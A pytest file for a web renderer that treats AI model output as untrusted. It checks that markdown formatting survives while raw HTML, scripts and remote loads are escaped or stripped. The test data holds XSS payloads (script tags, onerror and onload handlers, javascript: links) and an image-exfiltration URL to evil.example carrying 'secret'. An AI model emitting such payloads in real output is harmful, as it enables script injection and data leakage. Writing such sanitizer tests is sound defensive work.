"""Model output is untrusted: what survives rendering is formatting, never script or remote loads."""

from __future__ import annotations

import pytest

from web.render import escape_chunk, render_markdown, sanitize


def test_markdown_formatting_and_code_blocks_are_rendered() -> None:
    html = render_markdown("# Title\n\n**bold** and `code`\n\n```python\nprint(1 < 2)\n```\n")
    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong>" in html
    assert '<pre><code class="language-python">print(1 &lt; 2)\n</code></pre>' in html


def test_tables_and_strikethrough_are_rendered() -> None:
    html = render_markdown("| a | b |\n|---|---|\n| 1 | ~~2~~ |\n")
    assert "<table>" in html and "<td>1</td>" in html
    assert "<s>2</s>" in html


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        "<svg onload=alert(1)>",
        "<iframe src=//evil.example></iframe>",
        '<div style="background:url(//evil.example)">x</div>',
    ],
)
def test_raw_html_in_markdown_stays_text(payload: str) -> None:
    html = render_markdown(f"hello {payload}")
    assert "<script" not in html and "<img" not in html and "<svg" not in html
    assert "<iframe" not in html and "<div" not in html
    assert "&lt;" in html  # shown to the user as the text it is


def test_javascript_links_are_not_links() -> None:
    html = render_markdown("[click](javascript:alert(1)) [mail](mailto:a@b.c) [web](https://a.b/)")
    assert "javascript:" not in html.replace("[click](javascript:alert(1))", "")
    assert 'href="mailto:a@b.c"' in html
    assert 'href="https://a.b/"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_images_become_links_that_load_nothing() -> None:
    html = render_markdown("![the secret](https://evil.example/leak?q=secret)")
    assert "<img" not in html
    assert '<a href="https://evil.example/leak?q=secret"' in html
    assert "image: the secret" in html


def test_sanitizer_removes_scripts_handlers_styles_and_foreign_classes() -> None:
    dirty = (
        '<p onclick="x()" class="tier-badge">a</p><script>bad()</script>'
        '<code class="language-js evil">c</code><span style="color:red" class="x">s</span>'
        '<img src="https://evil.example/p.png"><a href="https://ok.example" onmouseover="x()">ok</a>'
    )
    clean = sanitize(dirty)
    assert "onclick" not in clean and "onmouseover" not in clean
    assert "script" not in clean and "bad()" not in clean
    assert "style" not in clean and "<img" not in clean
    assert 'class="tier-badge"' not in clean and "evil" not in clean
    assert '<code class="language-js">c</code>' in clean
    assert "<span>s</span>" in clean


def test_streamed_chunks_are_escaped() -> None:
    assert escape_chunk("<b>x</b> & y") == "&lt;b&gt;x&lt;/b&gt; &amp; y"
    assert escape_chunk("  \n") == "  \n"


def test_a_reply_is_rendered_once_however_often_its_page_is_viewed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from web import render

    render.clear_cache()
    calls: list[str] = []
    real = render._MARKDOWN.render

    def counting(text: str) -> str:
        calls.append(text)
        return real(text)

    monkeypatch.setattr(render._MARKDOWN, "render", counting)
    text = "[" * 500 + "hostile" + "]" * 500
    first = render_markdown(text)
    for _ in range(3):
        assert render_markdown("".join(text)) == first  # a new str each view, as from a row
    assert len(calls) == 1
    render.clear_cache()
